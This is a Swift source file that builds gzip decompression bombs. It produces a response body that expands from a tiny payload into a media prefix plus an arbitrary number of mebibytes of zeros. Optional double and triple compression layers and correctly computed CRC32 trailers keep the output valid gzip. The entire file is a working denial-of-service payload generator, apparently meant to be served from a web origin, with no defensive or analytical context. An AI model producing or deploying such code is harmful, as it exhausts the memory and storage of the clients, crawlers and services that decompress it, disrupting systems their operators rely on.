/// Gzip that unpacks to some media and then to any number of mebibytes of zeros.
enum GzipBomb {
    /// About 1,050 bytes for each mebibyte; packed twice some 13 bytes. A third layer adds nothing but another head.
    static func body(after media: [UInt8], mebibytes: Int, layers: Int) -> OriginBody {
        let start = Gzip.header + Deflate.stored(media, isLast: false)
        let end = Deflate.stored([], isLast: true) + trailer(of: media, mebibytes: mebibytes)
        let block = Deflate.mebibyteOfZeros
        switch layers {
        case 1:
            let middle = OriginBody.repeating(SharedBytes(block), count: block.count * mebibytes)
            return OriginBody(start) + middle + OriginBody(end)
        case 2: return OriginBody(twice(start, block, count: mebibytes, end))
        default: return OriginBody(Gzip.stored(twice(start, block, count: mebibytes, end)))
        }
    }

    private static func trailer(of media: [UInt8], mebibytes: Int) -> [UInt8] {
        var sum = CRC32()
        sum.take(media)
        sum.takeZeros(mebibytes << 20)
        return trailer(sum, length: media.count + mebibytes << 20)
    }

    private static func trailer(_ sum: CRC32, length: Int) -> [UInt8] {
        Gzip.littleEndian(sum.value) + Gzip.littleEndian(UInt32(truncatingIfNeeded: length))
    }

    /// The first layer packed again: its blocks are all the same, so that each is a few copies of the one before.
    private static func twice(_ start: [UInt8], _ block: [UInt8], count: Int, _ end: [UInt8]) -> [UInt8] {
        var sum = CRC32()
        sum.take(start)
        for _ in 0..<count { sum.take(block) }
        sum.take(end)
        let packed =
            Deflate.stored(start + block, isLast: false) + Deflate.more(of: block, count: block.count * (count - 1))
            + Deflate.stored(end, isLast: true)
        return Gzip.header + packed + trailer(sum, length: start.count + block.count * count + end.count)
    }
}
